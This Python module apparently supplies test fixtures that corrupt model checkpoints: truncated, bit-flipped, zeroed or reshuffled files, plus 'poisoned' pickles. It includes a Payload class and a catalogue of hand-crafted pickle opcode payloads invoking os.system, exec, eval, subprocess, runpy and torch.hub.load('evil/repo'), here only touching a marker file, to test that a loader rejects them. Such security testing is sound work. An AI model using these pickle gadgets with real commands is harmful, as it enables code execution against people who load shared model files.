"""Ways to damage a checkpoint: bytes cut, flipped, zeroed, files lost, mixed or poisoned."""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch

from .written import STEP, Tensors, _deepspeed_model, tensors, write_safetensors

Damage = Callable[[Path], None]
MARKER = "executed"
"""The file that a payload writes into the working folder."""


def cut(share: float, extra: int = 0) -> Damage:
    """Cut a file to a share of its bytes, and `extra` more."""

    def damage(path: Path) -> None:
        size = int(path.stat().st_size * share) + extra
        with path.open("r+b") as file:
            file.truncate(size)

    return damage


def flip(share: float, bit: int = 3) -> Damage:
    """Flip one bit."""

    def damage(path: Path) -> None:
        position = int(path.stat().st_size * share)
        with path.open("r+b") as file:
            file.seek(position)
            byte = file.read(1)[0]
            file.seek(position)
            file.write(bytes([byte ^ (1 << bit)]))

    return damage


def zero_pages(first: int, count: int | None) -> Damage:
    """Zero whole pages; without a count to the end of the file."""

    def damage(path: Path) -> None:
        size = path.stat().st_size
        stop = size if count is None else 4096 * (first + count)
        with path.open("r+b") as file:
            file.seek(4096 * first)
            file.write(bytes(stop - 4096 * first))
        assert path.stat().st_size == size

    return damage


def lose(path: Path) -> None:
    """Remove a file or a folder."""
    if path.is_dir():
        for file in path.iterdir():
            file.unlink()
        path.rmdir()
    else:
        path.unlink()


def append(data: bytes) -> Damage:
    """Add bytes after the end."""

    def damage(path: Path) -> None:
        with path.open("ab") as file:
            file.write(data)

    return damage


def replace(data: bytes) -> Damage:
    """Write other content."""

    def damage(path: Path) -> None:
        path.write_bytes(data)

    return damage


def edit_json(**changes: Any) -> Damage:
    """Change entries of a JSON object."""

    def damage(path: Path) -> None:
        path.write_text(json.dumps({**json.loads(path.read_bytes()), **changes}))

    return damage


def edit_header(change: Callable[[dict[str, Any]], None]) -> Damage:
    """Change a safetensors header, and write it with its new length."""

    def damage(path: Path) -> None:
        data = path.read_bytes()
        length = struct.unpack("<Q", data[:8])[0]
        header = json.loads(data[8 : 8 + length])
        change(header)
        text = json.dumps(header).encode()
        path.write_bytes(struct.pack("<Q", len(text)) + text + data[8 + length :])

    return damage


def without_member(ending: str) -> Damage:
    """Write an archive again without one member; its CRCs are right."""

    def damage(path: Path) -> None:
        source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as target:
            for name in source.namelist():
                if not name.endswith(ending):
                    target.writestr(name, source.read(name))

    return damage


def short_member(ending: str) -> Damage:
    """Write an archive again with a shorter member; its CRCs are right."""

    def damage(path: Path) -> None:
        source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as target:
            for name in source.namelist():
                data = source.read(name)
                target.writestr(name, data[:-4] if name.endswith(ending) else data)

    return damage


def torch_state(**state: Any) -> Damage:
    """Write another object by `torch.save`."""

    def damage(path: Path) -> None:
        torch.save(state, path)

    return damage


def deepspeed_of_step(step: int) -> Damage:
    """Write a rank's model states of another step."""

    def damage(path: Path) -> None:
        torch.save({**_deepspeed_model(tensors("weights"), 3), "global_steps": step}, path)

    return damage


def shard_without_tensor(path: Path) -> None:
    """Write a shard that has another tensor than the index says."""
    model: Tensors = {"other.weight": torch.ones(8, 8)}
    write_safetensors(path, model)


def all_zero(path: Path) -> None:
    """Write a model whose tensors were never written."""
    model = {f"layer.{number}.weight": torch.zeros(64, 128) for number in range(10)}
    write_safetensors(path, model)


class Payload:
    """Runs code when a pickle with it is loaded."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> Any:
        return self.function, self.arguments


def _opcodes(text: bytes) -> bytes:
    return text.replace(b"MARKER", MARKER.encode())


CODE = f"open({MARKER!r}, 'w').close()"
PAYLOADS: dict[str, bytes] = {
    "os.system": _opcodes(b"cos\nsystem\n(S'touch MARKER'\ntR."),
    "posix.system": _opcodes(b"\x80\x02cposix\nsystem\nX\x0e\x00\x00\x00touch MARKER\x85R."),
    "builtins.exec": pickle.dumps(Payload(exec, CODE)),
    "builtins.eval": pickle.dumps(Payload(eval, CODE), 2),
    "inst": _opcodes(b"(S'touch MARKER'\nios\nsystem\n."),
    "obj": _opcodes(b"(cos\nsystem\nS'touch MARKER'\no."),
    "popen": _opcodes(b"csubprocess\ncheck_call\n((S'touch'\nS'MARKER'\nltR."),
    "getattr": _opcodes(
        b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR(S'touch MARKER'\ntR."
    ),
    "stack global": _opcodes(b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x0etouch MARKER\x85R."),
    "memo": _opcodes(
        b"\x80\x04\x8c\x02osp0\n0\x8c\x06systemp1\n0g0\ng1\n\x93\x8c\x0etouch MARKER\x85R."
    ),
    "build": b"ctypes\nSimpleNamespace\n)R}S'__setstate__'\ncos\nsystem\nsbS'touch executed'\nb.",
    "broken after it": _opcodes(b"cos\nsystem\n(S'touch MARKER'\ntR\xff\xff"),
    "runpy": b"crunpy\nrun_path\n(S'x.py'\ntR.",
    "torch.load": b"ctorch\nload\n(S'x.pt'\ntR.",
    "hub": b"ctorch.hub\nload\n(S'evil/repo'\nS'model'\ntR.",
    "nested pickle": b"cpickle\nloads\n(S'N.'\ntR.",
}


def poison_zip(payload: str) -> Damage:
    """Put a payload into an archive's pickle; its CRCs are right."""

    def damage(path: Path) -> None:
        source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as target:
            for name in source.namelist():
                data = source.read(name)
                if name.endswith("data.pkl"):
                    data = PAYLOADS[payload]
                target.writestr(name, data)

    return damage


def poison(payload: str) -> Damage:
    """Replace a file by a payload."""
    return replace(PAYLOADS[payload])


def poisoned_state(path: Path) -> None:
    """Save a payload beside weights, as an attacker would publish them."""
    torch.save({"weights": torch.ones(4), "step": STEP, "hook": Payload(exec, CODE)}, path)


def poisoned_legacy(path: Path) -> None:
    """Save a payload in the old format."""
    state = {"weights": torch.ones(4), "hook": Payload(exec, CODE)}
    torch.save(state, path, _use_new_zipfile_serialization=False)
